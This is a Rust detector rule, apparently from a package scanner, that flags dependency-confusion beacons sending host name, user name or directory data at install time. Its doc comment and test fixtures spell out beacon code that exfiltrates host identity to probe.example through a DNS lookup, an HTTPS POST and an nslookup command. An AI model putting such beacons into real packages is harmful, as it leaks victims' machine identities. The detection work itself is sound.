//! ## What it does
//! Fires when host identity — host name, user name, home directory, network interfaces, DNS
//! servers, the machine's public IP (asked from a "what is my IP" service), and to a lesser
//! degree the working directory — is sent over the network by code an install script runs
//! (HTTP, DNS lookups with the data in the host name, `curl`/`nslookup` commands with
//! `$(hostname)`). At install time one kind of identity is enough (high); two or more is the
//! recon fingerprint (critical). In code that only runs when imported, a fingerprint of three
//! or more kinds is high.
//!
//! ## Why is this bad?
//! Dependency-confusion probes publish an internal package name to the public registry and
//! beacon home from `preinstall` to learn which companies installed it. Even "research" probes
//! run arbitrary code on build machines; the same hook can carry any payload.
//!
//! ## Example
//! ```js
//! // preinstall: node index.js
//! dns.lookup(`${os.hostname()}.${os.userInfo().username}.probe.example`, () => {});
//! ```
//! Benign look-alikes: a logger adding `os.hostname()` to its records, an error reporter
//! sending the host name with a crash report (run time, one kind of identity).
//!
//! ## Motivated by
//! Alex Birsan's dependency-confusion research (2021) and the thousands of copy-cat recon
//! packages since (`clgt`-style, interactsh/OAST collaborators).

use crate::alert::{AlertId, AlertSeverity};
use crate::js::context::{Ctx, Emitter, SendKind};
use crate::js::taint::Taint;

/// Kinds of identity that name the machine or its user (the working directory alone does not).
fn core_kinds(t: Taint) -> u32 {
    (t.0 & (Taint::ID_HOST.0 | Taint::ID_USER.0 | Taint::ID_HOME.0 | Taint::ID_NET.0)).count_ones()
}

pub fn check(ctx: &Ctx<'_>, out: &mut Emitter<'_>) {
    for send in ctx.sends() {
        if send.local {
            continue;
        }
        let core = core_kinds(send.payload);
        let all = send.payload.identity_kinds();
        if core == 0 {
            continue;
        }
        let severity = if ctx.install_time {
            if all >= 2 {
                AlertSeverity::Critical
            } else {
                AlertSeverity::High
            }
        } else if all >= 3 && core >= 2 {
            AlertSeverity::High
        } else {
            continue;
        };
        let how = if send.kind == SendKind::Dns || send.kind == SendKind::Command {
            "in a lookup or command"
        } else {
            "over the network"
        };
        let when = if ctx.install_time {
            "at install time"
        } else {
            "when loaded"
        };
        out.report(
            AlertId::DependencyConfusion,
            severity,
            send.span,
            format!(
                "sends {all} kinds of host identity {how} {when} (`{}`)",
                send.callee
            ),
            send.url_texts(),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::alert::{AlertId, AlertSeverity};
    use crate::rules::test_support::{fires, silent};

    const PROBE: &str = "const os = require('os'); const https = require('https');\nconst data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });\nconst req = https.request({ hostname: 'probe.example', method: 'POST' }, res => {});\nreq.write(data); req.end();";

    #[test]
    fn install_time_fingerprint_is_critical() {
        fires(
            PROBE,
            true,
            AlertId::DependencyConfusion,
            AlertSeverity::Critical,
        );
        fires(
            "const os = require('os'), dns = require('dns');\ndns.lookup(`${os.hostname()}.probe.example`, () => {});",
            true,
            AlertId::DependencyConfusion,
            AlertSeverity::High,
        );
        fires(
            "require('child_process').exec('nslookup $(hostname).probe.example');",
            true,
            AlertId::DependencyConfusion,
            AlertSeverity::High,
        );
    }

    #[test]
    fn run_time_fingerprint_is_high() {
        let a = fires(
            PROBE,
            false,
            AlertId::DependencyConfusion,
            AlertSeverity::High,
        );
        assert_eq!(a.severity, AlertSeverity::High);
    }

    #[test]
    fn local_ipc_is_not_a_beacon() {
        silent(
            "const net = require('net'), os = require('os');\nconst c = net.createConnection(9222, '127.0.0.1');\nc.write(JSON.stringify({ host: os.hostname(), user: os.userInfo().username }));",
            true,
            AlertId::DependencyConfusion,
        );
    }

    #[test]
    fn run_time_hostname_in_logs_is_not() {
        silent(
            "const os = require('os'); fetch('https://logs.example', { method: 'POST', body: JSON.stringify({ host: os.hostname(), msg }) });",
            false,
            AlertId::DependencyConfusion,
        );
        silent(
            "const os = require('os'); const cache = require('path').join(os.homedir(), '.cache'); require('https').get('https://a.example/x', { headers: { dir: cache } });",
            true,
            AlertId::DependencyConfusion,
        );
    }
}
